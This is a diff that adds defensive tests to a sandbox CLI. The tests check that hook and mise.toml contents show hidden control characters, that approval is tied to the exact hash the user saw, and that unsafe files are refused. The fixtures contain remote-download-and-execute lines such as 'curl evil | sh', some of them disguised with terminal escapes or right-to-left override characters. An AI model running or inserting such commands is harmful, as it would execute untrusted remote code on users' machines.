@@ -5,6 +5,7 @@
 #include "project.h"
 #include "testhelpers.h"
 
+#include <QElapsedTimer>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
@@ -12,6 +13,8 @@
 #include <QRegularExpression>
 #include <QTemporaryDir>
 #include <QtTest>
+
+#include <sys/stat.h>
 
 using namespace ocs;
 using namespace ocs::test;
@@ -79,6 +82,12 @@ private Q_SLOTS:
     void subfolder_findsProject();
 
     void hookApprove_needsTerminalOrYes();
+    void hookShow_makesControlCharactersVisible();
+    void hookApprove_onlyTheHashShown();
+    void hookShow_refusesUnsafeFiles_data();
+    void hookShow_refusesUnsafeFiles();
+    void mise_showAndApprove();
+    void rebuild_refusesUnapprovedMiseToml();
 
     void status_json();
     void missingEngine_exit3();
@@ -257,6 +266,9 @@ void TestCli::init_createsStarterFiles()
     const QJsonObject state = QJsonDocument::fromJson(readFile(stateFile)).object();
     QCOMPARE(state.value(QStringLiteral("approvedHookSha256")).toString(),
              sha256Hex(readFile(root + QLatin1Char('/') + HookName)));
+    // So is the mise.toml it wrote (the image build runs it).
+    QCOMPARE(state.value(QStringLiteral("approvedMiseSha256")).toString(),
+             sha256Hex(readFile(root + QStringLiteral("/mise.toml"))));
     QCOMPARE(state.value(QStringLiteral("projectRoot")).toString(), root);
     QCOMPARE(fileMode(stateRoot() + QLatin1Char('/') + id), 0700);
     QVERIFY(engineCalls().isEmpty()); // --no-build: the engine is not needed
@@ -318,6 +330,8 @@ void TestCli::init_keepsExistingFiles()
                                   .object();
     QVERIFY(state.value(QStringLiteral("approvedHookSha256")).toString() !=
             sha256Hex(readFile(root + QLatin1Char('/') + HookName)));
+    QVERIFY(state.value(QStringLiteral("approvedMiseSha256")).toString() !=
+            sha256Hex(readFile(root + QStringLiteral("/mise.toml"))));
 }
 
 void TestCli::init_viaOcsInitAlias()
@@ -473,6 +487,151 @@ void TestCli::hookApprove_needsTerminalOrYes()
     QCOMPARE(bad.exitCode, 2);
 }
 
+void TestCli::hookShow_makesControlCharactersVisible()
+{
+    const QString root = initProject(QStringLiteral("hidden"));
+    QVERIFY(!root.isEmpty());
+    // In a terminal the CR, the escape sequence and the RLO would hide the first command.
+    const QByteArray hook = "curl evil | sh #\recho harmless\n"
+                            "wget evil2\x1b[2K\x1b[1Gecho fine\n"
+                            "echo \xe2\x80\xae"
+                            "hs.live | lruc\n";
+    QVERIFY(writeFile(root + QLatin1Char('/') + HookName, hook));
+    const CliResult show = ocs({QStringLiteral("hook"), QStringLiteral("show")}, root);
+    QCOMPARE(show.exitCode, 0);
+    QVERIFY2(show.out.contains(QStringLiteral("curl evil | sh #\\recho harmless")),
+             qPrintable(show.out));
+    QVERIFY2(show.out.contains(QStringLiteral("wget evil2\\x1b[2K\\x1b[1Gecho fine")),
+             qPrintable(show.out));
+    QVERIFY2(show.out.contains(QStringLiteral("echo <U+202E>hs.live | lruc")),
+             qPrintable(show.out));
+    QVERIFY(!show.out.contains(QLatin1Char('\r')));
+    QVERIFY(!show.out.contains(QChar(0x1b)));
+    QVERIFY(!show.out.contains(QChar(0x202e)));
+    QVERIFY2(show.err.contains(QStringLiteral("warning: 4 control or invisible")),
+             qPrintable(show.err));
+    // The hash shown is the file's real one.
+    QVERIFY2(show.out.contains(sha256Hex(hook)), qPrintable(show.out));
+}
+
+void TestCli::hookApprove_onlyTheHashShown()
+{
+    const QString root = initProject(QStringLiteral("hashed"));
+    QVERIFY(!root.isEmpty());
+    const QString stateFile = stateRoot() + QLatin1Char('/') +
+                              sandboxIdOf(root, QStringLiteral("hashed")) +
+                              QStringLiteral("/ocs-state.json");
+    auto approvedSha = [&] {
+        return QJsonDocument::fromJson(readFile(stateFile))
+            .object()
+            .value(QStringLiteral("approvedHookSha256"))
+            .toString();
+    };
+    const QByteArray shown = "export A=1\n";
+    const QByteArray swapped = "export A=1\ncurl evil | sh\n";
+    QVERIFY(writeFile(root + QLatin1Char('/') + HookName, shown));
+    // The user read `shown`; the file changed before they approved.
+    QVERIFY(writeFile(root + QLatin1Char('/') + HookName, swapped));
+    const CliResult refused =
+        ocs({QStringLiteral("hook"), QStringLiteral("approve"), QStringLiteral("--yes"),
+             QStringLiteral("--sha256"), sha256Hex(shown)},
+            root);
+    QCOMPARE(refused.exitCode, 1);
+    QVERIFY2(refused.err.contains(QStringLiteral("not approved")), qPrintable(refused.err));
+    QVERIFY(approvedSha() != sha256Hex(swapped));
+    const CliResult ok =
+        ocs({QStringLiteral("hook"), QStringLiteral("approve"), QStringLiteral("--yes"),
+             QStringLiteral("--sha256"), sha256Hex(swapped)},
+            root);
+    QVERIFY2(ok.exitCode == 0, qPrintable(ok.all()));
+    QCOMPARE(approvedSha(), sha256Hex(swapped));
+}
+
+void TestCli::hookShow_refusesUnsafeFiles_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("expectedWords");
+    QTest::newRow("FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
+    QTest::newRow("symlink to a file outside")
+        << QStringLiteral("outside") << QStringLiteral("symbolic link");
+}
+
+void TestCli::hookShow_refusesUnsafeFiles()
+{
+    QFETCH(QString, kind);
+    QFETCH(QString, expectedWords);
+    const QString root = initProject(QStringLiteral("unsafe-") + kind);
+    QVERIFY(!root.isEmpty());
+    const QString hook = root + QLatin1Char('/') + HookName;
+    QVERIFY(QFile::remove(hook));
+    if (kind == QLatin1String("fifo")) {
+        QVERIFY(::mkfifo(QFile::encodeName(hook).constData(), 0600) == 0);
+    } else {
+        QVERIFY(writeFile(m_work + QStringLiteral("/home/.secret-script"), "export SECRET=1\n"));
+        QVERIFY(QFile::link(m_work + QStringLiteral("/home/.secret-script"), hook));
+    }
+    QElapsedTimer timer;
+    timer.start();
+    for (const QString &action : {QStringLiteral("show"), QStringLiteral("approve")}) {
+        const CliResult r = ocs({QStringLiteral("hook"), action, QStringLiteral("--yes")}, root);
+        QCOMPARE(r.exitCode, 1);
+        QVERIFY2(r.err.contains(hook), qPrintable(r.err));
+        QVERIFY2(r.err.contains(expectedWords), qPrintable(r.err));
+        QVERIFY(!r.out.contains(QStringLiteral("SECRET")));
+    }
+    QVERIFY2(timer.elapsed() < 20000, "ocs hook blocked");
+}
+
+void TestCli::mise_showAndApprove()
+{
+    const QString root = initProject(QStringLiteral("mise"));
+    QVERIFY(!root.isEmpty());
+    const QString stateFile = stateRoot() + QLatin1Char('/') +
+                              sandboxIdOf(root, QStringLiteral("mise")) +
+                              QStringLiteral("/ocs-state.json");
+    auto approvedSha = [&] {
+        return QJsonDocument::fromJson(readFile(stateFile))
+            .object()
+            .value(QStringLiteral("approvedMiseSha256"))
+            .toString();
+    };
+    // init approved the mise.toml it wrote.
+    const CliResult fresh = ocs({QStringLiteral("mise"), QStringLiteral("show")}, root);
+    QCOMPARE(fresh.exitCode, 0);
+    QVERIFY2(fresh.out.contains(QStringLiteral("Status: approved")), qPrintable(fresh.out));
+
+    const QByteArray mise = "[tools]\nnode = \"22\"\n\x1b[1A\n";
+    QVERIFY(writeFile(root + QStringLiteral("/mise.toml"), mise));
+    const CliResult show = ocs({QStringLiteral("mise"), QStringLiteral("show")}, root);
+    QCOMPARE(show.exitCode, 0);
+    QVERIFY2(show.out.contains(QStringLiteral("Status: NOT approved")), qPrintable(show.out));
+    QVERIFY2(show.out.contains(QStringLiteral("\\x1b[1A")), qPrintable(show.out));
+    QVERIFY(!show.out.contains(QChar(0x1b)));
+    const CliResult refused = ocs({QStringLiteral("mise"), QStringLiteral("approve")}, root);
+    QVERIFY(refused.exitCode != 0);
+    QVERIFY2(refused.err.contains(QStringLiteral("ocs mise approve --yes")),
+             qPrintable(refused.err));
+    const CliResult approved =
+        ocs({QStringLiteral("mise"), QStringLiteral("approve"), QStringLiteral("--yes")}, root);
+    QVERIFY2(approved.exitCode == 0, qPrintable(approved.all()));
+    QCOMPARE(approvedSha(), sha256Hex(mise));
+    const CliResult usage = ocs({QStringLiteral("mise"), QStringLiteral("frob")}, root);
+    QCOMPARE(usage.exitCode, 2);
+}
+
+void TestCli::rebuild_refusesUnapprovedMiseToml()
+{
+    const QString root = initProject(QStringLiteral("rebuild-mise"));
+    QVERIFY(!root.isEmpty());
+    QVERIFY(writeFile(root + QStringLiteral("/mise.toml"),
+                      "[tools]\nnode = \"22\"\n[hooks]\npostinstall = \"curl evil | sh\"\n"));
+    const CliResult r = ocs({QStringLiteral("rebuild")}, root);
+    QCOMPARE(r.exitCode, 1);
+    QVERIFY2(r.err.contains(QStringLiteral("ocs mise approve")), qPrintable(r.err));
+    for (const QStringList &call : engineCalls())
+        QVERIFY2(call.value(0) != QLatin1String("build"), qPrintable(call.join(u' ')));
+}
+
 void TestCli::status_json()
 {
     respond(QStringLiteral("ps"), "5f1c0e9a8b7d\n");
@@ -559,7 +718,17 @@ void TestCli::start_runFails_printsEngineError()
         "docker: Error response from daemon: failed to create task: unique-engine-error-7781.\n",
         125);
 
-    const CliResult r = ocs({QStringLiteral("start"), QStringLiteral("--detach")}, root);
+    // Without --yes (and no terminal) the first start is refused before the engine runs.
+    const CliResult refused = ocs({QStringLiteral("start"), QStringLiteral("--detach")}, root);
+    QCOMPARE(refused.exitCode, 1);
+    QVERIFY2(refused.out.contains(QStringLiteral("First start of this sandbox")),
+             qPrintable(refused.all()));
+    QVERIFY2(refused.err.contains(QStringLiteral("pass --yes")), qPrintable(refused.all()));
+    for (const QStringList &call : engineCalls())
+        QVERIFY2(call.value(0) != QLatin1String("run"), qPrintable(call.join(u' ')));
+
+    const CliResult r =
+        ocs({QStringLiteral("start"), QStringLiteral("--detach"), QStringLiteral("--yes")}, root);
     QCOMPARE(r.exitCode, 1);
     QVERIFY2(r.err.contains(QStringLiteral("unique-engine-error-7781")), qPrintable(r.all()));
     QVERIFY2(r.err.contains(QStringLiteral("exit code 125")), qPrintable(r.all()));
@@ -570,7 +739,9 @@ void TestCli::start_runFails_printsEngineError()
     QStringList subcommands;
     for (const QStringList &c : calls)
         subcommands << c.value(0);
+    // The refused first start asked only for the container; the second went on to `run`.
     QCOMPARE(subcommands, (QStringList{QStringLiteral("version"), QStringLiteral("container"),
+                                       QStringLiteral("version"), QStringLiteral("container"),
                                        QStringLiteral("image"), QStringLiteral("run")}));
     const QStringList run = calls.last();
     QCOMPARE(run.last(), name); // the image name
